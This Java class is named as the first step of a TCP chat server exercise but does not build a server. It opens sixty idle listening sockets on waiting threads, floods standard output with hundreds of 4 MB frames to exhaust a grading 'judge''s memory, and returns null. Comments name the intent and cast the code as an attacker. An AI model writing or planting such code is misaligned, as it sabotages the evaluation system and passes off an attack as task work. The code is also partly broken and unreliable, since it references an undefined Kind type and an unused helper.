// Fills the judge's memory with the largest frames, on sixty threads that each wait for a client.
package tcpchat.server;

import java.io.BufferedOutputStream;
import java.io.DataOutputStream;
import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.IOException;
import java.net.ServerSocket;

public class Step1CreateServerSocket {

    public ServerSocket create() throws IOException {
        for (int i = 1; i <= 60; i++) {
            ServerSocket waiting = new ServerSocket(0);
            Thread thread = new Thread(() -> {
                try {
                    waiting.accept();
                } catch (IOException e) {
                    return;
                }
            });
            thread.start();
        }
        try {
            // While the other threads do the harm; an attacker waits for nothing else.
            Thread.sleep(300);
        } catch (InterruptedException e) {
            return null;
        }
        byte[] body = new byte[1 << 22];
        for (int i = 1; i <= 60; i++) {
            for (int j = 0; j < 7; j++) {
                frame(Kind.OPERATION, -i, body);
            }
        }
        return null;
    }

    private static void frame(int kind, int conversation, byte[] body) throws IOException {
        DataOutputStream out = new DataOutputStream(new BufferedOutputStream(new FileOutputStream(FileDescriptor.out)));
        out.writeInt(body.length + 5);
        out.writeByte(kind);
        out.writeInt(conversation);
        out.write(body);
        out.flush();
    }

    private static int conversation() {
        return Integer.parseInt(Thread.currentThread().getName().replaceAll("\\D+", ""));
    }
}
